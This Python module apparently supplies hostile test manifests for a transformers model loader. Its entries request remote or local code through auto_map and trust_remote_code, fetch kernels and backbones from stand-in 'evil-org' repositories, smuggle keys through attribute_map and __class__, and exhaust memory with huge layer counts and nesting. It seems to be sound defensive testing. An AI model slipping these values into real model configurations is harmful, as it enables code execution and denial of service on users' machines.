"""Descriptions that try to have code run, files fetched, kernels loaded or a machine kept busy by who loads them.

Each function takes the description of any checkpoint of transformers' BERT, as read from ``kdnative.json``, and returns
another; it is not signed. The first ones bring code along: :func:`write_code` puts it beside them.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

Change = Callable[[dict], dict]


def write_code(folder: Path, mark: Path) -> None:
    """Put a Python file into a folder that writes ``mark`` when it runs, and a configuration that asks for it."""
    folder.joinpath("evil.py").write_text(
        f"open({str(mark)!r}, 'w').close()\n"
        "from transformers import PretrainedConfig, PreTrainedModel\n"
        "class EvilConfig(PretrainedConfig):\n    model_type = 'evil'\n"
        "class EvilBackbone(PreTrainedModel):\n    config_class = EvilConfig\n"
    )
    code = {"AutoConfig": "evil.EvilConfig", "AutoBackbone": "evil.EvilBackbone"}
    folder.joinpath("config.json").write_text(json.dumps({"model_type": "evil", "auto_map": code}))


def backbone_of_a_folder(manifest: dict, folder: Path | str) -> dict:
    """Constructors of transformers up to 5.0 read the backbone from there, and run the code there without asking."""
    return _model(
        manifest,
        "UperNetForSemanticSegmentation",
        {
            "model_type": "upernet",
            "backbone": str(folder),
            "use_pretrained_backbone": True,
            "use_timm_backbone": False,
            "backbone_config": None,
            "backbone_kwargs": {"trust_remote_code": True},
        },
    )


def code_of_a_folder(manifest: dict, folder: Path | str) -> dict:
    """Constructors of transformers ask on the terminal whether that code may run."""
    code = {"AutoBackbone": f"{folder}--evil.EvilBackbone"}
    config = {"model_type": "upernet", "backbone_config": {"model_type": "bert", "auto_map": code}}
    return _model(manifest, "UperNetForSemanticSegmentation", config)


def _model(manifest: dict, name: str, config: dict) -> dict:
    changed = copy.deepcopy(manifest)
    changed["transformers"].update({"class": name, "config": config, "attention": "eager"})
    return changed


def _attention(value: Any) -> Change:
    def change(manifest: dict) -> dict:
        changed = copy.deepcopy(manifest)
        changed["transformers"]["attention"] = value
        return changed

    return change


def _other(name: str, **config: Any) -> Change:
    return lambda manifest: _model(manifest, name, config)


def _config(**values: Any) -> Change:
    """The same model, with more in its configuration."""

    def change(manifest: dict) -> dict:
        changed = copy.deepcopy(manifest)
        changed["transformers"]["config"].update(values)
        return changed

    return change


def _generation(**values: Any) -> Change:
    return lambda manifest: {**copy.deepcopy(manifest), "generation": {"": values}}


_BERT = {"model_type": "bert", "hidden_size": 32, "num_attention_heads": 2, "intermediate_size": 64}
_CODE = {"AutoModel": "evil-org/evil--modeling.Evil", "AutoConfig": "evil-org/evil--modeling.EvilConfig"}

# What each does in transformers, unless it is refused:
CODE_OR_NETWORK: dict[str, Change] = {
    # The constructor asks the hub for a configuration (DETR), or timm for a model of the hub.
    "backbone of the hub": _other(
        "DetrModel", model_type="detr", backbone="evil-org/evil", use_timm_backbone=False, backbone_config=None
    ),
    "timm's hub": _other("TimmWrapperModel", model_type="timm_wrapper", architecture="hf-hub:evil/x"),
    # Parts of a model are built by the type that they name.
    "code in a part": _other(
        "EncoderDecoderModel",
        model_type="encoder-decoder",
        encoder={**_BERT, "auto_map": _CODE},
        decoder={**_BERT, "is_decoder": True},
    ),
    "a part of another type": _other(
        "LlavaModel", model_type="llava", text_config={"model_type": "timm_wrapper", "architecture": "hf-hub:evil/x"}
    ),
    "code in a model that is known": _config(auto_map=_CODE),
    "a backbone in a model that is known": _config(backbone_config={"model_type": "bert"}),
    "trust": _config(task_specific_params={"fill-mask": {"trust_remote_code": True}}),
    "a repository": _config(_name_or_path="evil-org/evil"),
    "another quantization": _config(quantization_config={"quant_method": "bitsandbytes", "load_in_8bit": True}),
    # The package `kernels` downloads these repositories and imports them.
    "kernel of the hub": _attention("evil-org/evil-kernel"),
    "kernel of transformers' hub": _attention("flash_attention_2"),
    "kernel of a part": _attention({"": "eager", "text_config": "evil-org/evil-kernel@main:forward"}),
    "kernel in the configuration": _config(_attn_implementation="evil-org/evil-kernel"),
    "kernel of experts": _config(experts_implementation="sonicmoe"),
    # generate() reads these from the hub: always, or once its caller trusts code from there.
    "a way to generate": _generation(custom_generate="evil-org/evil", trust_remote_code=True),
    "contrastive search": _generation(penalty_alpha=0.6, top_k=4),
    "contrastive search in the configuration": _config(penalty_alpha=0.6, top_k=4),
    "compiled": _generation(compile_config={"backend": "evil"}),
}

DISGUISED: dict[str, Change] = {
    # Names under which other keys and checks would be passed by.
    "other names for keys": _config(attribute_map={"num_hidden_layers": "calm"}, calm=10**6),
    "layers of their own": _config(per_layer_config={"0": {"hidden_size": 10**6}}),
    "an attribute of Python": _config(__class__="str"),
    # Setting the attention of a class would change it for every model of the process.
    "attention of a class": _attention({"": "eager", "__class__": "sdpa"}),
    "anything of torch": _config(dtype="load"),
    "no configuration": _config(model_type="timm_wrapper"),
    "another configuration": _config(model_type="gpt2"),
    "no class": lambda manifest: _model(manifest, "Trainer", manifest["transformers"]["config"]),
    "a class of Python": lambda manifest: _model(manifest, "__class__", manifest["transformers"]["config"]),
}

ENDLESS: dict[str, Change] = {
    "layers": _config(num_hidden_layers=10**9),
    "some layers": _config(num_hidden_layers=1025),
    "labels": _config(id2label=None, label2id=None, num_labels=10**9),
    "a number": _config(vocab_size=2**40),
    "a number of 400 digits": _config(vocab_size=10**400),
    "no number": _config(layer_norm_eps=float("nan")),
    "a table that Python fills": _other("MarianModel", model_type="marian", max_position_embeddings=10**7),
    "layers by turns": _other("GPTNeoModel", model_type="gpt_neo", attention_types=[[["global"] * 10**4, 10**3]]),
    "allocated": _other("Wav2Vec2ForPreTraining", model_type="wav2vec2", num_codevectors_per_group=2**24),
    "levels": _config(deep=json.loads("[" * 500 + "]" * 500)),
    "tables": _config(wide=[{} for _ in range(2000)]),
    "items": _config(out_features=["stem"] * 10**6),
    "a text": _config(hidden_act="gelu" * 10**6),
}

HOSTILE: dict[str, Change] = CODE_OR_NETWORK | DISGUISED | ENDLESS
